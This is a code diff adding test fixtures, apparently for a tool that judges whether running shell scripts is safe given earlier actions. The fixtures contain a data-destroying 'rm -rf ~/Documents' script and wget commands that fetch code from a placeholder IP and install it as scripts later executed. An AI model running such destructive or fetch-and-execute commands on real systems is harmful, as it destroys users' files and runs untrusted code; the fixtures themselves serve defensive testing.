@@ -79,3 +79,49 @@ FURTHER_ON: list[tuple[str, str, str, str]] = [
         "file a.pdf b.pdf thesis.pdf",
     ),
 ]
+SCRIPTS = "script scripts/a.sh 'ls src'\nscript scripts/b.sh"
+HARMLESS, FATAL = f"{SCRIPTS} date", f"{SCRIPTS} 'rm -rf ~/Documents'\nfiles ~/Documents/a#.md 20"
+GET = "wget http://203.0.113.9/"
+STARTED_FURTHER_ON: list[tuple[str, str, str, str]] = [
+    ("each script of a folder", 'for f in scripts/*.sh; do bash "$f"; done', HARMLESS, FATAL),
+    ("scripts by their names", "for t in a b; do sh scripts/$t.sh; done", HARMLESS, FATAL),
+    (
+        "each script of a folder: one's own, or one was fetched",
+        'for f in scripts/*.sh; do bash "$f"; done',
+        HARMLESS,
+        f"{HARMLESS}\ndid '{GET}b.sh -O scripts/b.sh'",
+    ),
+    ("fetched and renamed", "./go", "script go x", f"script go x\ndid '{GET}get.sh && mv get.sh go'"),
+    ("renamed twice", "sh c", "script c x", f"script c x\ndid '{GET}a'\ndid 'mv a b'\ndid 'mv b c'"),
+    (
+        "put among one's tools",
+        "~/tools/tool",
+        f"script ~/tools/tool x\ndid '{GET}other'\ndid 'install -m 755 tool ~/tools/tool'",
+        f"script ~/tools/tool x\ndid '{GET}tool'\ndid 'install -m 755 tool ~/tools/tool'",
+    ),
+    (
+        "gone to first",
+        "cd x && sh a",
+        f"script x/a y\ndid '{GET}a'",
+        "script x/a y\ndid 'wget -O x/a http://203.0.113.9/a'",
+    ),
+    (
+        "fetched where one had gone to",
+        "sh x/a",
+        "script x/a y\ndid 'cd x && ls'",
+        f"script x/a y\ndid 'cd x && {GET}a'",
+    ),
+]
+FURTHER_ON_ASK: list[tuple[str, str, str]] = [
+    (
+        "scripts that are copied first",
+        'cp ../new/*.sh scripts/; for f in scripts/*.sh; do bash "$f"; done',
+        HARMLESS,
+    ),
+    ("scripts that are pulled first", 'git pull; for f in scripts/*.sh; do bash "$f"; done', HARMLESS),
+    (
+        "scripts that a function copies first",
+        'x() { cp ../new/b.sh scripts/; }; x; for f in scripts/*.sh; do bash "$f"; done',
+        HARMLESS,
+    ),
+]
